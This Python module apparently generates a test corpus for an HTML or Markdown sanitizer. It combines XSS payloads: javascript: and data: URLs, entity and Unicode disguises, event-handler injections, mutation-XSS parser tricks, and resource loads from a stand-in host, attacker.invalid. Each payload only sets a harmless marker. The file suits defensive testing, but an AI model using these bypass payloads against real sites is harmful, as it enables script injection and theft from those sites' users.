"""Texts that try to act on the page that shows them, made by combining what such texts are made of.

Each of them, where it got through, would run ``ACT`` or ask another site for something.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import product

ACT = "top.ran=1"
ELSEWHERE = "http://attacker.invalid"

SCHEMES = (
    f"javascript:{ACT}",
    f"javascript://%0a{ACT}",
    f"data:text/html,<script>{ACT}</script>",
    "data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
    f"vbscript:{ACT}",
    f"livescript:{ACT}",
    "blob:null/0",
    "file:///etc/passwd",
    f"feed:javascript:{ACT}",
    f"view-source:javascript:{ACT}",
    f"jar:javascript:{ACT}!/",
)

# Characters between or before the letters of a scheme that one reader or another overlooks.
OVERLOOKED = (
    "\t", "\n", "\r", "\f", "\x00", "\x01", "\x08", "\x0b", "\x0e", "\x1b", "\x1f", " ", "\x7f",
    "\x85", "\xa0", "\xad", "\u034f", "\u061c", "\u180e", "\u200b", "\u200d", "\u200f", "\u2028",
    "\u202e", "\u2060", "\u2063", "\u3000", "\u3164", "\ufe0f", "\ufeff", "\ufffc", "\U000e0061",
)  # fmt: skip


def disguises() -> Iterator[Callable[[str], str]]:
    """Ways to write an address so that a rule misses what a reader takes it for."""
    yield str
    yield str.upper
    yield lambda url: "".join(c.upper() if i % 2 else c for i, c in enumerate(url))
    yield lambda url: "".join(f"&#{ord(c)};" for c in url)
    yield lambda url: "".join(f"&#{ord(c):07d}" for c in url)
    yield lambda url: "".join(f"&#x{ord(c):X};" for c in url)
    yield lambda url: "".join(f"&amp;#{ord(c)};" for c in url)
    yield lambda url: "".join(f"&amp;amp;#x{ord(c):x};" for c in url)
    yield lambda url: url.replace(":", "&colon;")
    yield lambda url: url.replace(":", "&amp;colon;")
    yield lambda url: url.replace("a", "a&Tab;", 1).replace(":", "&NewLine;:", 1)
    yield lambda url: url.replace(":", "%3A", 1)
    yield lambda url: url.replace(":", "%253a", 1)
    yield lambda url: "%0a".join((url[:1], url[1:]))
    yield lambda url: "".join(chr(ord(c) + 0xFEE0) if c.isalpha() else c for c in url[:10]) + url
    yield lambda url: url.replace(":", "\uff1a", 1)
    yield lambda url: f"\\{url}".replace("\\j", "\\x6a", 1)
    for char in OVERLOOKED:
        yield lambda url, c=char: f"{c}{url}"
        yield lambda url, c=char: f"{url[:4]}{c}{url[4:]}"
        yield lambda url, c=char: f"{url[:2]}&#{ord(c)};{url[2:]}"
        yield lambda url, c=char: url.replace(":", f"&#x{ord(c):x};:", 1)


ADDRESS_PLACES = (
    '<a href="{}">x</a>',
    "<a href='{}' title=x>x</a>",
    "<a href={}>x</a>",
    "<a href=`{}`>x</a>",
    '<A HREF="{}" onclick=1>x',
    '<img src="{}" alt="x">',
    '<img srcset="{} 2x" src="/a.png" alt=x>',
    '<img src=/a.png lowsrc="{0}" dynsrc="{0}" longdesc="{0}" usemap="{0}">',
    '<blockquote cite="{}">x</blockquote>',
    '<q cite="{}">x</q>',
    '<del cite="{}">x</del>',
    '<table background="{}"><tr><td background="{}">x</table>',
    '<iframe src="{}"></iframe>',
    '<embed src="{}">',
    '<object data="{}" codebase="{}"></object>',
    '<form action="{0}"><button formaction="{0}">x</button></form>',
    '<input type=image src="{}">',
    '<base href="{}"><a href="x">x</a>',
    '<link rel=stylesheet href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<video poster="{0}" src="{0}"><source src="{0}"></video>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<svg><use href="{0}"/><image href="{0}"/><animate attributeName=href values="{0}"/></svg>',
    '<math><maction actiontype=statusline xlink:href="{}">x</maction></math>',
    '<p style="background:url({})">x</p>',
    '<a ping="{}" href="/">x</a>',
    '<body background="{}">',
    '<area shape=default href="{}"><map name=m><area href="{}"></map>',
)
MARKDOWN_PLACES = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "t")',
    "![x]({})",
    "<{}>",
    "[x]\n\n[x]: {}",
    "[x][1]\n\n[1]: <{}> 'y'",
    "[![x]({0})]({0})",
    '> - <a href="{}">x</a>',
)

EVENTS = ("onclick", "OnError", "onload", "onfocus", "onpointerover", "ontoggle", "onbegin")
ELEMENTS = (
    "a href=/", "img src=x", "p", "b", "details open", "table", "svg", "body", "input autofocus",
    "video src=x", "audio src=x", "marquee", "iframe", "object", "style", "unknown-element", "div",
    "select autofocus", "math", "isindex", "button autofocus", "template", "noscript",
)  # fmt: skip
SEPARATORS = (" ", "/", "\n", "\t", "\f", '"', "'", "/x=1/", " x=`` ", " style=x:y ")

TEXTS = (
    f"<script>{ACT}</script>",
    f"<ScRiPt >{ACT}</sCrIpT >",
    f"<script/x>{ACT}</script/x>",
    f"<script\n>{ACT}</script\n>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<<script>{ACT}//<</script>",
    f"</p><script>{ACT}</script><p>",
    f"<script>{ACT}",
    f"<script src={ELSEWHERE}/a.js></script>",
    "<script src=//attacker.invalid/a.js>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><script>{ACT.replace('=', '&#61;')}</script></svg>",
    f"<svg/onload={ACT}>",
    f"<svg><style><img src=x onerror={ACT}></style></svg>",
    f"<svg></p><style><a title='</style><img src=x onerror={ACT}>'>",
    f"<svg><foreignObject><iframe srcdoc='<script>{ACT}</script>'></foreignObject></svg>",
    f"<svg><desc><img src=x onerror={ACT}></desc></svg>",
    f"<svg><title><noscript><img title='</noscript><img src=x onerror={ACT}>'></title></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={ACT}>'>",
    f"<math><mi><mglyph></mi><style><img src=x onerror={ACT}></style></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={ACT}></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ACT}>",
    f"<table><caption><svg><title><table><caption></svg><style><img src=x onerror={ACT}></style>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<noembed><p title='</noembed><img src=x onerror={ACT}>'>",
    f"<noframes><p title='</noframes><img src=x onerror={ACT}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={ACT}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={ACT}>'>",
    f"<title><p title='</title><img src=x onerror={ACT}>'>",
    f"<style><p title='</style><img src=x onerror={ACT}>'>",
    f"<iframe><p title='</iframe><img src=x onerror={ACT}>'>",
    f"<select><p title='</select><img src=x onerror={ACT}>'>",
    f"<template><p title='</template><img src=x onerror={ACT}>'></template>",
    f"<template><script>{ACT}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={ACT}></template>",
    f"<plaintext><img src=x onerror={ACT}>",
    f"<!--><img src=x onerror={ACT}>-->",
    f"<!--<img src='--><img src=x onerror={ACT}>'>",
    f"<!-- --!><img src=x onerror={ACT}> -->",
    f"<!><img src=x onerror={ACT}>",
    f"<?xml version=1><img src=x onerror={ACT}>?>",
    f"<![CDATA[<img src=x onerror={ACT}>]]>",
    f"<svg><![CDATA[><img src=x onerror={ACT}>]]></svg>",
    f"<!DOCTYPE html [<!ENTITY x '<img src=x onerror={ACT}>'>]>&x;",
    f"<img src='x' onerror='{ACT}' alt=\"'><script>{ACT}</script>\">",
    f'<img alt="x" src="x"onerror="{ACT}">',
    f"<img src=x onerror\n=\n{ACT}>",
    f"<img src=x onerror\x00={ACT}>",
    f"<img src=x \x00onerror={ACT}>",
    f"<img \x00src=x onerror={ACT}>",
    f"<im\x00g src=x onerror={ACT}>",
    f"<\x00img src=x onerror={ACT}>",
    f"<img src=x onerror=&#x{ord('t'):x};op.ran=1>",
    f'<p title="</p><script>{ACT}</script>">x</p>',
    f"<p title='\"><img src=x onerror={ACT}>'>x</p>",
    f"<p title=`x`onclick={ACT}`>x</p>",
    f"<p id=body name=getElementById onclick={ACT}>x</p>",
    "<a id=defaultView href=x>x</a><form id=ran><input name=attributes></form>",
    "<img name=currentScript><img name=cookie><p id=ran><p id=ran>",
    f'<p style="width:expression({ACT})">x</p>',
    f"<p style='-moz-binding:url({ELSEWHERE}/x.xml#x)'>x</p>",
    f"<p style='behavior:url({ELSEWHERE}/x.htc)'>x</p>",
    f"<style>@import '{ELSEWHERE}/a.css';*{{background:url({ELSEWHERE}/b)}}</style>",
    f"<link rel=preload as=image href={ELSEWHERE}/p><link rel=preconnect href={ELSEWHERE}>",
    f"<meta http-equiv=Set-Cookie content='a=b'><meta http-equiv=refresh content=0;{ELSEWHERE}>",
    f"<base href={ELSEWHERE}/><img src=/a.png>",
    f"<base target=_top><a href={ELSEWHERE}>x</a>",
    f"<iframe srcdoc='&lt;script&gt;parent.{ACT}&lt;/script&gt;'></iframe>",
    f"<object data='data:text/html,<script>{ACT}</script>'></object>",
    f"<embed src='data:image/svg+xml,<svg onload={ACT}>'>",
    f"<applet code=x codebase={ELSEWHERE}></applet>",
    f"<portal src={ELSEWHERE}></portal><fencedframe src={ELSEWHERE}></fencedframe>",
    f"<frameset onload={ACT}><frame src=javascript:{ACT}></frameset>",
    f"<bgsound src={ELSEWHERE}/s><layer src={ELSEWHERE}></layer><ilayer src={ELSEWHERE}></ilayer>",
    f"<img src={ELSEWHERE}/pixel><img src=//attacker.invalid/pixel>",
    "<img src='/\\attacker.invalid/pixel'><img src='\\\\attacker.invalid/pixel'>",
    "<img src='/\t/attacker.invalid/pixel'><img src='/&#10;/attacker.invalid/pixel'>",
    "<img src=' //attacker.invalid/pixel'><img src='&#1;//attacker.invalid/pixel'>",
    "<img src='/&#9;\\attacker.invalid/p'><img src='\t/\t/\tattacker.invalid/p'>",
    f"<picture><source srcset={ELSEWHERE}/s><img src=/x></picture>",
    f"<video poster={ELSEWHERE}/p><track src={ELSEWHERE}/t default></video>",
    "<audio src=//attacker.invalid/a autoplay></audio>",
    f"<input type=image src={ELSEWHERE}/i><body background={ELSEWHERE}/b>",
    f"<svg><image href={ELSEWHERE}/i /><feImage href={ELSEWHERE}/f /></svg>",
    f"<details open ontoggle={ACT}><summary>x</summary></details>",
    f"<a href='/' target=_blank onmouseover={ACT}>x</a>",
    f"<x contenteditable onblur={ACT}>x</x>",
    f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={ACT}>",
    f"<p accesskey=x onclick={ACT} tabindex=1 autofocus onfocus={ACT}>x</p>",
    "<p is=x-y slot=a part=b data-bind=d v-html=e ng-app x-data={} hx-get=/ @click=f>x</p>",
    "{{constructor.constructor('top.ran=1')()}} ${top.ran=1} #{top.ran=1} <%= top.ran=1 %>",
    f"+ADw-script+AD4-{ACT}+ADw-/script+AD4-",
    f"\u00bcscript\u00be{ACT}\u00bc/script\u00be",
    f"\uff1cscript\uff1e{ACT}\uff1c/script\uff1e",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{ACT}&amp;lt;/script&amp;gt;",
    f"`<script>{ACT}</script>`",
    f"``` <img src=x onerror={ACT}>\nx\n```",
    f"[x](/ \"' onclick='{ACT}\")",
    f'[x](/"onclick="{ACT})',
    f'![" onerror="{ACT}](x)',
    f"[<img src=x onerror={ACT}>](/)",
    f"<a href='/'>[x](javascript:{ACT})</a>",
    f"# <svg onload={ACT}>\n\n| <img src=x onerror={ACT}> |\n|---|\n| <script>{ACT}</script> |",
    f"    <script>{ACT}</script>",
    f"1. <details open\n   ontoggle={ACT}>",
    f"<b\n\n<img src=x onerror={ACT}>",
    f'<http://a/"onclick="{ACT}>',
    f'-->\'"/></sCript><svG x=">" onload=({ACT})``>',
)


def by_address() -> Iterator[str]:
    """Every scheme at every place, and one scheme in every disguise at every place."""
    plain = product(SCHEMES, [str])
    hidden = product(SCHEMES[:1], disguises())
    for (url, disguise), place in product([*plain, *hidden], ADDRESS_PLACES + MARKDOWN_PLACES):
        yield place.replace("{0}", "{}").replace("{}", disguise(url))


def by_event() -> Iterator[str]:
    for element, separator, event in product(ELEMENTS, SEPARATORS, EVENTS):
        yield f"<{element}{separator}{event}={ACT}>x</{element.partition(' ')[0]}>"


def attacks() -> list[str]:
    """All of them, in an order that mixes the kinds."""
    return [*TEXTS, *by_event(), *by_address()]
